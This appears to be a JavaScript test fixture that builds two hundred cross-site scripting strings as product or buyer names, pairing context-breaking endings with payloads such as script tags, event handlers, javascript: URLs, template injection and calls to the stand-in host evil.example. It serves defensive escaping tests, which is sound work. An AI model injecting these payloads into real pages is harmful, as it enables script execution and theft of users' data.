/** What would show that something ran: a dialog, a request, or a mark in the page. */
const RUN = 'window.hit=1;alert(1);fetch("http://evil.example/")';
const ATTRIBUTE = RUN.replaceAll('"', '&quot;');
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=http://evil.example/a.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror='${ATTRIBUTE}'>`,
  `<img src=http://evil.example/a.png>`,
  `<svg onload='${ATTRIBUTE}'>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><img src=x onerror='${ATTRIBUTE}'></mtext></math>`,
  `<iframe src='javascript:alert(1)'></iframe>`,
  `<iframe srcdoc='<script>parent.hit=1</script>'></iframe>`,
  `<object data=http://evil.example/></object>`,
  `<a href='javascript:alert(1)'>x</a>`,
  `<form action=http://evil.example/><input autofocus onfocus='${ATTRIBUTE}'>`,
  `<details open ontoggle='${ATTRIBUTE}'>`,
  `<style>@import 'http://evil.example/a.css';</style>`,
  `<link rel=stylesheet href=http://evil.example/a.css>`,
  `<base href=http://evil.example/>`,
  `<meta http-equiv=refresh content='0;url=http://evil.example/'>`,
  `<template><script>${RUN}</script></template>`,
  `{{constructor.constructor('${RUN.replaceAll('"', '`')}')()}}`,
  `\${${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `javascript:${RUN}`,
];
/** What a name may stand in: text, an attribute, a script, a comment, a title, JSON within a page. */
const ENDS = ['', '">', "'>", '</script>', '-->', '</title>', '"}</script>', '</textarea>'];
/** Two hundred things that a merchant or a buyer might call something. */
export const SCRIPT_NAMES = ENDS.flatMap((end) => SCRIPTS.map((script, index) => `${index} ${end}${script}`));
